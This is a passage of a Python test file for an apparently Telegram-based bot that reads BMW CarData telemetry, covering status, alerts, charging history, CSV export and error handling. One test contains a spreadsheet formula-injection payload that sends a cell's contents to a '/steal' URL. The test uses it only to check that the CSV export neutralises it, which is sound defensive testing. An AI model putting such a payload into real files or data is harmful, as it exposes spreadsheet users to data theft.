    assert "BMW CarData" in before.text and "i Remote API" in before.text
    assert all(command in before.text for command in REMOTE_COMMANDS)  # nothing linked: everything there is

    await link_cardata(user, cardata_simulator)
    user.send("/start")
    await user.wait_for(lambda u: len(texts_of(u, "Hi Carla")) == 2)
    linked = texts_of(user, "Hi Carla")[1]
    for can in ("/status", "/map", "range", "finished", "/alerts", "/history", "read-only"):
        assert can in linked, linked
    for cannot in ("lock", "climate", "start charging", "lights", "i Remote"):
        assert cannot not in linked.lower(), linked
    user.send("/help")
    await user.wait_for(lambda u: len(texts_of(u, "Here is what I can do")) == 2)
    after = texts_of(user, "Here is what I can do")[1]
    commands = [line.split()[0] for line in after.splitlines() if line.startswith("/")]
    assert {"/status", "/map", "/history", "/alerts", "/notify", "/settings", "/unlink"} <= set(commands)
    assert not set(REMOTE_COMMANDS) & set(commands), commands
    assert "navigation" not in after  # no places to send to a read-only car
    assert "read-only" in after and "no destinations" in after and "estimated" in after
    assert "/trips" in commands and "drives the car reported" in after


async def test_destinations_say_cardata_does_not_share_them(linked: Application, user: SandboxUser) -> None:
    car = f"i3 120Ah (…{DEFAULT_BEV_VIN[-4:]})"
    answer = texts.DESTINATIONS_READ_ONLY.format(car=car)
    before = len(user.bot_messages)
    user.send("/destinations")
    await user.wait_for(lambda u: len(u.bot_messages) > before)
    assert [(m.text, m.buttons) for m in user.bot_messages[before:]] == [(answer, [])], user.transcript()
    assert "does not share its last destinations" in texts.DESTINATIONS_READ_ONLY


def labels(message: ChatMessage) -> list[str]:
    return [button.text for row in message.buttons for button in row]


async def test_the_charge_level_alert_comes_once_from_the_stream(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    user.send("/alerts")
    menu = await user.wait_for_bot_message("Alerts about your cars")
    user.press(menu, "alr:level:on")
    await user.wait_for(lambda u: "✅ Charge level: 80 %" in labels(u.now(menu)))
    for level in (75, 70):
        user.press(menu, "alr:level:dn")
        await user.wait_for(lambda u, n=level: f"✅ Charge level: {n} %" in labels(u.now(menu)))  # type: ignore[misc]

    cardata_simulator.plug_in(DEFAULT_BEV_VIN)  # from 64 %, to the car's target of 80 %
    await until(charging(linked, DEFAULT_BEV_VIN), "the charge seen")
    cardata_simulator.set_soc(DEFAULT_BEV_VIN, 69)
    await until(lambda: cardata_of(linked).status(OWNER, DEFAULT_BEV_VIN).soc == 69, "69 % streamed")
    assert not texts_of(user, "has reached")
    cardata_simulator.set_soc(DEFAULT_BEV_VIN, 71)
    alert = await user.wait_for_bot_message("has reached")
    assert alert.text == f"🔋 <b>i3 120Ah (…{DEFAULT_BEV_VIN[-4:]})</b> has reached 71 % (your alert: 70 %)."
    assert labels(alert) == ["🔄 Status"]  # read-only: no Lock, whatever the alert

    cardata_simulator.set_soc(DEFAULT_BEV_VIN, 75)
    cardata_simulator.set_soc(DEFAULT_BEV_VIN, 80)  # the target: the charge ends
    await user.wait_for_bot_message("has finished charging")
    await cardata_of(linked).alert_tick()
    assert len(texts_of(user, "has reached")) == 1, user.transcript()


async def test_the_left_open_alert_comes_once_minutes_after_the_car_was_left_unlocked(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    cardata = cardata_of(linked)
    cardata_simulator.set_locked(DEFAULT_BEV_VIN, False)
    await until(
        lambda: cardata.status(OWNER, DEFAULT_BEV_VIN).lock_state == "UNLOCKED", "the unlock streamed"
    )
    await cardata.alert_tick(cardata_simulator.now() + 9 * 60)  # on in /alerts by default, after 10 min
    assert not texts_of(user, "is not closed up")

    cardata_simulator.advance(10 * 60)
    await cardata.alert_tick(cardata_simulator.now())
    alert = await user.wait_for_bot_message("is not closed up")
    car = f"<b>i3 120Ah (…{DEFAULT_BEV_VIN[-4:]})</b>"
    assert alert.text == f"⚠️ {car} has been parked for 10 min and is not closed up:\n🔓 unlocked"
    assert labels(alert) == ["🔄 Status"]  # CarData cannot lock: no Lock button
    await cardata.alert_tick(cardata_simulator.now() + 60 * 60)
    assert len(texts_of(user, "is not closed up")) == 1, user.transcript()  # the REX stayed locked


async def test_a_selective_lock_is_not_locked_and_an_open_window_is_open(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    cardata = cardata_of(linked)
    cardata_simulator.set_locked(DEFAULT_BEV_VIN, True, "SELECTIVELOCKED")  # the driver's door opens to a key
    cardata_simulator.set_window(DEFAULT_BEV_VIN, "row1.driver", "INTERMEDIATE")  # part open
    window = ("windowDriverFront",)
    await until(lambda: cardata.status(OWNER, DEFAULT_BEV_VIN).open_items == window, "the window streamed")
    user.send("/status")
    status = await user.wait_for_bot_message("🕒")
    assert "🚪 open: driver's window" in (status.text or "")

    cardata_simulator.advance(10 * 60)
    await cardata.alert_tick(cardata_simulator.now())
    alert = await user.wait_for_bot_message("is not closed up")
    car = f"<b>i3 120Ah (…{DEFAULT_BEV_VIN[-4:]})</b>"
    assert alert.text == (
        f"⚠️ {car} has been parked for 10 min and is not closed up:\n🔓 unlocked\n🚪 open: driver's window"
    )


async def test_location_and_copy_buttons_come_from_the_stream_without_a_bmw_call(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    cardata_simulator.move(DEFAULT_BEV_VIN, 48.2, 11.6)
    await until(lambda: cardata_of(linked).status(OWNER, DEFAULT_BEV_VIN).mileage_km != 23417, "the drive")
    user.send("/status")
    status = await user.wait_for_bot_message("🕒")
    assert status.button("📋 VIN").copy_text == DEFAULT_BEV_VIN
    calls = len(cardata_simulator.requests)

    user.press(status, "Location")
    await user.wait_for(lambda u: any(m.location for m in u.bot_messages))
    pin = next(m for m in user.bot_messages if m.location)
    assert pin.location == pytest.approx((48.2, 11.6))
    assert pin.button("📋 Position").copy_text == "48.20000, 11.60000"
    assert len(cardata_simulator.requests) == calls  # the streamed position: nothing asked of BMW


async def csv_rows(user: SandboxUser, listing: ChatMessage) -> list[list[str]]:
    """Press the CSV button under a /history listing: the document's rows, header first."""
    user.press(listing, "CSV")
    await user.wait_for(lambda u: any(m.document for m in u.bot_messages))
    document = next(m for m in user.bot_messages if m.document).document
    assert document is not None
    return list(csv.reader(io.StringIO(document.decode())))


async def test_the_csv_neutralises_formulas_the_car_sends(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    hostile = '=HYPERLINK("http://127.0.0.1/steal?"&A1,"details")'
    cardata_simulator.plug_in(DEFAULT_BEV_VIN)
    await until(charging(linked, DEFAULT_BEV_VIN), "the charge seen")
    cardata_simulator.advance(60)
    cardata_simulator.finish_charging(DEFAULT_BEV_VIN, reason=hostile)
    await user.wait_for_bot_message("stopped charging")
    user.send("/history")
    listing = await user.wait_for_bot_message("Charging history of")

    rows = await csv_rows(user, listing)
    cells = [cell for row in rows for cell in row]
    assert "'" + hostile in cells  # kept, but as text: a spreadsheet shows it rather than running it
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], rows


async def test_a_huge_charging_duration_from_bmw_breaks_neither_the_chart_nor_the_csv(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    start = int(cardata_simulator.now()) - 3600
    session = {"startTime": start, "endTime": None, "displayedStartSoc": 30, "displayedSoc": 80}
    cardata_simulator.car(DEFAULT_BEV_VIN).history.append({**session, "totalChargingDurationSec": 10**12})
    user.send("/history")
    listing = await user.wait_for_bot_message("Charging history of")
    chart = await user.wait_for_bot_message("last 30 days")
    assert chart.photo is not None
    assert texts.SOMETHING_WRONG not in user.transcript()

    rows = await csv_rows(user, listing)
    minutes = [int(row[CSV_COLUMNS.index("minutes")]) for row in rows[1:]]
    assert len(minutes) == 3 and max(minutes) < 7 * 24 * 60, rows  # no session of 31,000 years


async def test_a_huge_unknown_status_from_the_car_keeps_status_within_telegrams_limit(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    cardata_simulator.plug_in(DEFAULT_BEV_VIN, charging=False)
    cardata_simulator.report(DEFAULT_BEV_VIN, CHARGING_STATUS, "SOME_NEW_STATE_" + "X" * 5000)
    cardata_simulator.report(DEFAULT_BEV_VIN, DOOR_STATUS, "ANOTHER_" + "Y" * 5000)
    await until(
        lambda: len(cardata_of(linked).status(OWNER, DEFAULT_BEV_VIN).lock_state or "") > 5000, "streamed"
    )
    user.send("/status")
    status = await user.wait_for_bot_message("🕒")
    text = status.text or ""
    assert "🔌 plugged in, some new state" in text and "🔐 another" in text, text
    assert len(text) < 1000, text


def choose(application: Application, tg_id: int = OWNER, **chosen: object) -> None:
    """What the owner chose in /settings (language, time zone), stored as /settings stores it."""
    garage = garage_of(application)
    garage.save_user_settings(tg_id, replace(garage.user_settings(tg_id) or UserSettings(), **chosen))  # type: ignore[arg-type]


ENGLISH_REFUSALS = ("Today's", "calls are used up", "does not know", "no longer accepts", "please")


async def test_cardatas_refusals_reach_a_german_owner_in_german(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    choose(linked, language="de")
    user.send("/status")
    status = await user.wait_for_bot_message("🕒")

    async def refresh_says(german: str) -> str:
        user.press(status, "🔄 Aktualisieren")
        await user.wait_for(lambda u: german in html.unescape(u.now(status).text or ""))
        said = html.unescape(user.now(status).text or "").split("\n\n")[-1]
        assert said.startswith("⚠️ Kein frischer Stand von BMW: "), said
        assert not any(english in said for english in ENGLISH_REFUSALS), said
        return said

    cardata_simulator.add_fault(Fault(path="telematicData", kind="error", status=404, times=1))
    await refresh_says("BMW kennt dieses Auto in deinem Konto nicht.")  # as for the i Remote API

    cardata_simulator.add_fault(Fault(path="telematicData", kind="error", status=401, times=1))
    cardata_simulator.add_fault(Fault(path="/token$", kind="error", status=400, times=1))  # renewal refused
    await refresh_says("BMW CarData akzeptiert diese Verbindung nicht mehr; bitte verknüpfe das Auto neu.")

    cardata_simulator.spend_quota(DEFAULT_GCID)
    await refresh_says("Die BMW-CarData-Abrufe für heute sind aufgebraucht; weitere sind möglich ab ")


async def test_a_car_bmw_says_is_not_the_owners_is_refused_in_plain_words(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    user.send("/status")
    status = await user.wait_for_bot_message("🕒")
    cardata_simulator.make_secondary(DEFAULT_BEV_VIN)  # e.g. the car was sold, the seller kept as a driver
    user.press(status, "Refresh")
    await user.wait_for(lambda u: "No fresh snapshot from BMW" in (u.now(status).text or ""))
    said = html.unescape(user.now(status).text or "")
    assert said.endswith(f"⚠️ No fresh snapshot from BMW: {texts.ERROR_SENTENCES[ErrorKind.NOT_YOUR_CAR]}"), (
        said
    )
    assert "not yours to read" in said


async def test_a_lost_container_is_made_again_once_and_the_read_retried(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    link = cardata_of(linked).store.cardata_link(OWNER)
    assert link is not None and link.container_id is not None
    user.send("/status")
    status = await user.wait_for_bot_message("🕒")
    cardata_simulator.delete_container(DEFAULT_GCID, link.container_id)  # deleted in the portal
    calls = cardata_of(linked).client.calls_left(OWNER)

    await refresh_showing(user, status, cardata_simulator, 71)
    assert "No fresh snapshot" not in (user.now(status).text or "")
    active = [c for c in cardata_simulator.containers(DEFAULT_GCID)["containers"] if c["state"] == "ACTIVE"]
    relinked = cardata_of(linked).store.cardata_link(OWNER)
    assert relinked is not None and [c["containerId"] for c in active] == [relinked.container_id]
    assert relinked.container_id != link.container_id
    # the failed read, the look at the containers, the new one and the read again: all from today's budget
    assert cardata_of(linked).client.calls_left(OWNER) == calls - 4

    cardata_simulator.delete_container(DEFAULT_GCID, relinked.container_id)
    cardata_simulator.add_fault(Fault(path="/customers/containers$", method="POST", kind="error", status=500))
    made = len(cardata_simulator.requests_to("/customers/containers", "POST"))
    user.press(status, "Refresh")  # made again at most once per read: the failure is told, not retried
    await user.wait_for(lambda u: "No fresh snapshot from BMW" in (u.now(status).text or ""))
    assert len(cardata_simulator.requests_to("/customers/containers", "POST")) == made + 1


async def test_a_running_charge_in_bmws_history_is_not_listed_as_a_finished_one(
    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    cardata_simulator.plug_in(DEFAULT_BEV_VIN)
    await until(charging(linked, DEFAULT_BEV_VIN), "the charge seen")
    cardata_simulator.advance(5 * 60)  # BMW lists the running charge, without an end time
    user.send("/history")
    shown = await user.wait_for_bot_message("Charging history of")
    charges = [line for line in (shown.text or "").splitlines() if " · " in line]
    assert [line.split(" · ")[1] for line in charges] == ["18–80 %", "31–80 %", "22–80 %"], shown.text


async def test_access_denied_right_after_approving_gets_bmws_advice(
    cardata_bot: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    flow = await start_flow(user)
    code = flow.button("Copy the code").copy_text
    assert code is not None
    # The owner approved, yet BMW answers access_denied (a BMW-side bug; the bot cannot tell it from a
    # decline, so both get BMW's advice: BD FAQ 2026-07-28).
    cardata_simulator.decide(code, "approved")
    cardata_simulator.decide(code, "denied")
    await user.wait_for(lambda u: (u.now(flow).text or "") == texts.CARDATA_DENIED)
    said = user.now(flow).text or ""
    assert "delete the CarData client" in said and "create a new one" in said and "/link" in said
    assert not garage_of(cardata_bot).is_linked(OWNER)


HELD_PUSH = "Another app holds your car's data stream"


def renewals(sim: CardataSimulator) -> int:
    """Token renewals the bot asked BMW for."""
    return len(
        [r for r in sim.requests_to("/gcdm/oauth/token") if r.form.get("grant_type") == "refresh_token"]
    )


async def test_another_app_holding_the_stream_is_told_once_to_each_owner_and_try_now_picks_it_up(
    cardata_bot_settings: Settings,
    simulator_url: str,
    sandbox: Sandbox,
    user: SandboxUser,
    cardata_simulator: CardataSimulator,
) -> None:
    sim, partner = cardata_simulator, sandbox.user(CO_OWNER, "Ben")
    async with running_bot(cardata_bot_settings, fast_client(simulator_url)) as application:
        await link_cardata(user, sim)
        await link_cardata(partner, sim)  # a co-owner of the same BMW account: the same stream
        supervisor = cardata_of(application).supervisor
        await asyncio.wait_for(supervisor.wait_connected(OWNER), 20)
        renewed = renewals(sim)
        sim.hold_stream(DEFAULT_GCID)  # Home Assistant takes the stream as ours drops

        notice = await user.wait_for_bot_message(HELD_PUSH)
        assert notice.text == texts.CARDATA_STREAM_BLOCKED_PUSH[StreamBlock.HELD]
        await partner.wait_for_bot_message(HELD_PUSH)
        user.send("/status")
        status = await user.wait_for_bot_message("🕒")
        assert texts.CARDATA_STREAM_BLOCKED_STATUS[StreamBlock.HELD] in (status.text or ""), status.text

        stats = supervisor.stats(OWNER)
        assert stats is not None
        taken = stats.taken
        user.press(notice, "Try now")  # still held: tried at once (not minutes later), refused again
        await until(lambda: stats.taken == taken + 1, "tried at once")
        assert supervisor.blocked(OWNER) is StreamBlock.HELD
        partner.press_data(
            notice.message_id, "stry:"
        )  # not their message; their stream is held too: harmless

    async with running_bot(cardata_bot_settings, fast_client(simulator_url)) as application:
        supervisor = cardata_of(application).supervisor
        await until(
            lambda: supervisor.blocked(OWNER) is StreamBlock.HELD, "held again after the restart"
        )  # told before: not again
        sim.release_stream(DEFAULT_GCID)  # the owner stops Home Assistant's stream
        user.press(notice, "Try now")
        await asyncio.wait_for(supervisor.wait_connected(OWNER), 20)
        sim.set_locked(DEFAULT_BEV_VIN, False)
        await until(
            lambda: cardata_of(application).status(OWNER, DEFAULT_BEV_VIN).lock_state == "UNLOCKED", "lock"
        )
        user.send("/status")
        await user.wait_for(lambda u: len(texts_of(u, "🕒")) == 2)
        assert texts.CARDATA_STREAM_BLOCKED_STATUS[StreamBlock.HELD] not in texts_of(user, "🕒")[-1]
        user.press(notice, "Try now")  # a stale press: the stream is back
        await user.wait_for(
            lambda u: any(a.text == texts.CARDATA_STREAM_NOT_BLOCKED for a in u.callback_answers())
        )

    assert len(texts_of(user, HELD_PUSH)) == 1, user.transcript()
    assert len(texts_of(partner, HELD_PUSH)) == 1, partner.transcript()
    assert renewals(sim) == renewed  # a CONNACK 5 renews no token


NOT_SET_UP_PUSH = "the data stream is not set up"


async def test_a_stream_not_set_up_in_bmws_portal_is_told_once_with_what_to_do_and_picked_up_once_it_is(
    cardata_bot: Application, user: SandboxUser, cardata_simulator: CardataSimulator
) -> None:
    sim = cardata_simulator
    await link_cardata(user, sim)
    supervisor = cardata_of(cardata_bot).supervisor
    await asyncio.wait_for(supervisor.wait_connected(OWNER), 20)
    renewed = renewals(sim)
    sim.unconfigure_stream(DEFAULT_GCID)  # the owner unticked the keys: BMW refuses the subscription (0x80)

    notice = await user.wait_for_bot_message(NOT_SET_UP_PUSH)
    assert notice.text == texts.CARDATA_STREAM_BLOCKED_PUSH[StreamBlock.NOT_CONFIGURED]
    assert "Configure data stream" in notice.text and "CarData Stream" in notice.text  # what to do
    user.send("/status")
    status = await user.wait_for_bot_message("🕒")
    assert texts.CARDATA_STREAM_BLOCKED_STATUS[StreamBlock.NOT_CONFIGURED] in (status.text or ""), status.text
    assert supervisor.blocked(OWNER) is StreamBlock.NOT_CONFIGURED

    sim.configure_stream(DEFAULT_GCID)  # done in the portal
    user.press(notice, "Try now")  # else minutes later by itself
    await asyncio.wait_for(supervisor.wait_connected(OWNER), 20)
    sim.set_locked(DEFAULT_BEV_VIN, False)
    await until(
        lambda: cardata_of(cardata_bot).status(OWNER, DEFAULT_BEV_VIN).lock_state == "UNLOCKED", "lock"
    )
    user.send("/status")
    await user.wait_for(lambda u: len(texts_of(u, "🕒")) == 2)
    assert texts.CARDATA_STREAM_BLOCKED_STATUS[StreamBlock.NOT_CONFIGURED] not in texts_of(user, "🕒")[-1]
    assert len(texts_of(user, NOT_SET_UP_PUSH)) == 1, user.transcript()
    assert renewals(sim) == renewed  # a refused subscription renews no token
